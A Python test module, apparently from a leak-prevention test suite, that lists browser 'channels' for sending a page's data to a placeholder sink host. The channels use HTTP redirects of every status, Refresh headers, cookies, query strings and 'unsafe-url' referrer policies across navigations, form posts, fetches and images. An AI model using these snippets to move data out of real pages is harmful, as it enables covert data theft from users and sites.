"""Channels: redirects of every status, to the own site and to another, of page loads, fetches and pictures.

A redirect of an address that the page made up is no different from that address. The dangerous one is of an address
that the site itself named and that therefore passes: what the browser takes along to the next stop (the referring
address, a cookie, a body) is the page's choice.
"""

from __future__ import annotations

from tests.channels.channel import Channel, File

STATUSES = (301, 302, 303, 307, 308)

_CHOSEN = 'history.replaceState(0, "", "?d=" + v); document.cookie = `d=${v}; path=/`;'


def _hop(status: int) -> dict[str, File]:
    headers = (("X-Status", str(status)), ("Location", "@TO@/sink/hop"), ("Referrer-Policy", "unsafe-url"))
    return {"hop": File("", headers=headers)}


def _of(status: int) -> tuple[Channel, ...]:
    known, made_up = "location.origin + at('hop')", f"`{{ON}}/redirect/{status}?d=${{v}}&to=${{TO}}/sink/hop`"
    files = _hop(status)
    return (
        Channel(f"redirect-{status}-page", f'{_CHOSEN} head("meta", {{name: "referrer", content: "unsafe-url"}});'
                                           f'location = {known}', files=files),
        Channel(f"redirect-{status}-form", f'form({{action: {known}, method: "post"}}, v).submit()', files=files),
        Channel(f"redirect-{status}-fetch", f"""{_CHOSEN} fetch({known}, {{mode: "no-cors",
      referrerPolicy: "unsafe-url"}})""",
                files=files),
        Channel(f"redirect-{status}-fetch-post", f'fetch({known}, {{method: "POST", body: v, mode: "no-cors"}})',
                files=files),
        Channel(f"redirect-{status}-image", f'{_CHOSEN} add("img", {{src: {known}, referrerpolicy: "unsafe-url"}})',
                files=files),
        Channel(f"redirect-{status}-made-up", "location = " + made_up.replace("{ON}", "${location.origin}")),
    )


CHANNELS = (
    *(channel for status in STATUSES for channel in _of(status)),
    Channel("redirect-open", 'fetch(`${TO}/redirect/302?to=${encodeURIComponent(u("open", v))}`, {mode: "no-cors"})'),
    Channel("redirect-refresh-header", _CHOSEN + "location = at('refresh')",
            files={"refresh": File("x", headers=(("Refresh", "0; url=@TO@/sink/refreshed"),
                                                 ("Referrer-Policy", "unsafe-url")))}),
)
